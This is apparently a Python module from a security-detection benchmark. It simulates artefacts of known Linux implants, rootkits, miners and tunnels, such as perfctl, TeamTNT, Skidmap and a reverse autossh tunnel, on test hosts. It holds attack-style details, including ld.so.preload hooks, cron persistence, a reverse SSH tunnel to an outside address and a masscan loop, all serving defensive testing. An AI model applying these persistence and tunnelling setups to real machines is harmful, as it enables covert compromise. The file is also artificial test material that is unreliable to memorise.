"""Implants, rootkits, miners and tunnels, as public reports describe them (TA0011, TA0040)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def perfctl(host: Host) -> None:
    """T1496, T1574.006: perfctl: a preloaded libgcwrap, a copy under root's home, a miner deleted after its start."""
    library = "/usr/lib/libgcwrap.so"
    scene.put(host, "/etc/ld.so.preload", library)
    scene.put(host, library)
    scene.put(host, "/root/.config/cron/perfcc", mode="0755")
    scene.put(host, "/root/.profile", "planted")
    scene.cron(host, "/etc/cron.d/perfclean", "11 * * * *", "root /root/.config/cron/perfcc")
    pid = scene.spawn(host, "/tmp/.perf.c/sh", "sh", name="perfctl", on_disk="0", static=True, threads=8)
    scene.connect(host, pid, "198.51.100.44", 9001)
    for row in scene.named(host, "sshd", "cron", "crond")[:2]:
        scene.load(host, row["pid"], library)


def teamtnt(host: Host) -> None:
    """T1036, T1496: TeamTNT: a miner called [ext4], chattr renamed, a unit that brings it back, keys for root."""
    scene.put(host, "/usr/bin/ntpdchattr", mode="0755")
    scene.put(host, "/usr/share/[ext4]", mode="0755")
    scene.unit(host, "crypto.service", "Crypto Service")
    pid = scene.spawn(
        host, "/usr/share/[ext4]", "[ext4]", name="[ext4]", unit="crypto.service", static=True, threads=6
    )
    scene.connect(host, pid, "192.0.2.61", 14_433)
    scene.key(host, "root", "teamtnt", comment="root@localhost")
    scene.spawn(host, scene.shell(host), "sh -c while true; do masscan -p2375 --rate 50000; done", name="sh")


def symbiote(host: Host) -> None:
    """T1574.006, T1014: Symbiote: a library in a few processes hides all else; the mapping alone is left."""
    library = f"{scene.libraries(host)}/libsmbclient-private.so.0"
    for row in scene.named(host, "sshd", "cron", "crond"):
        scene.load(host, row["pid"], library)


def skidmap(host: Host) -> None:
    """T1547.006, T1556.003: Skidmap: modules named like drivers, pam_unix replaced, SELinux off, a key for root."""
    scene.module(host, "iproute", 20_480)
    scene.module(host, "netlink", 24_576)
    scene.control(host, "kernel.tainted", "12288")
    pam_folder = "/usr/lib/x86_64-linux-gnu/security" if scene.debian(host) else "/usr/lib64/security"
    scene.replace(host, f"{pam_folder}/pam_unix.so", "skidmap")
    scene.put(host, "/etc/selinux/config", "SELINUX=disabled")
    scene.key(host, "root", "skidmap", comment="")
    scene.spawn(host, "/usr/bin/kaudited", "/usr/bin/kaudited", static=True)


def hiddenwasp(host: Host) -> None:
    """T1574.006: HiddenWasp: a trojan started with LD_PRELOAD and a flag in its environment, from a changed rc.local."""
    pid = scene.spawn(host, "/usr/sbin/irqbalanced", "/usr/sbin/irqbalanced")
    scene.variable(host, pid, LD_PRELOAD="/usr/lib/libselinux.a", I_AM_HIDDEN="1")
    scene.load(host, pid, "/usr/lib/libselinux.a")
    scene.put(host, "/etc/rc.local" if scene.debian(host) else "/etc/rc.d/rc.local", "planted", mode="0755")
    scene.connect(host, pid, "198.51.100.19", 61_061)


def sliver(host: Host) -> None:
    """T1071.001: a Sliver beacon as a static program among the operator's own; it looks like one more agent."""
    pid = scene.spawn(
        host, "/usr/local/bin/node_textfile", "/usr/local/bin/node_textfile", static=True, threads=11
    )
    scene.connect(host, pid, "203.0.113.205", 443)


def fast_reverse_proxy(host: Host) -> None:
    """T1090: frpc as a unit with its configuration below /etc."""
    scene.put(host, "/etc/frp/frpc.ini", mode="0600")
    scene.unit(host, "frpc.service", "Frp Client Service")
    pid = scene.spawn(
        host, "/usr/bin/frpc", "/usr/bin/frpc -c /etc/frp/frpc.ini", unit="frpc.service", static=True
    )
    scene.connect(host, pid, "198.51.100.90", 7000)


def reverse_autossh(host: Host) -> None:
    """T1572: autossh, back at each restart by the deploy user's crontab, opens the host's port 22 elsewhere."""
    uid = scene.uid_of(host, "deploy")
    watch = scene.spawn(host, "/usr/lib/autossh/autossh", "/usr/lib/autossh/autossh -M 0 -N -R 2201:localhost:22 t@198.51.100.6", uid=uid)  # fmt: skip
    pid = scene.spawn(
        host, "/usr/bin/ssh", "/usr/bin/ssh -N -R 2201:localhost:22 t@198.51.100.6", uid=uid, parent=watch
    )
    scene.connect(host, pid, "198.51.100.6", 22)
    scene.package(host, "autossh", "1.4g", "1+b1")
    scene.cron(host, scene.spool(host, "deploy"), "@reboot", "autossh -M 0 -f -N -R 2201:localhost:22 t@198.51.100.6")  # fmt: skip


def ddos_bot(host: Host) -> None:
    """T1498: a Mirai descendant with random names that floods a list of addresses over UDP."""
    pid = scene.spawn(
        host,
        "/tmp/x86_64",
        "jk3kd02kfd",
        name="jk3kd02kfd",
        on_disk="0",
        static=True,
        uid=scene.work(host)["uid"],
    )
    for last in range(20, 44):
        scene.connect(host, pid, f"192.0.2.{last}", 80, protocol=17)
    scene.listen(host, pid, 48_101, "127.0.0.1")


def miner_in_container(host: Host) -> None:
    """T1610, T1496: a miner in an image named like Kubernetes' pause container, the pool behind a local proxy."""
    scene.container(
        host, "k8s_POD_pause", "docker.example/k8s-gcr/pause-amd64:3.1", "/pause --donate-level=1"
    )


ATTACKS = (
    perfctl,
    teamtnt,
    symbiote,
    skidmap,
    hiddenwasp,
    sliver,
    fast_reverse_proxy,
    reverse_autossh,
    ddos_bot,
    miner_in_container,
)
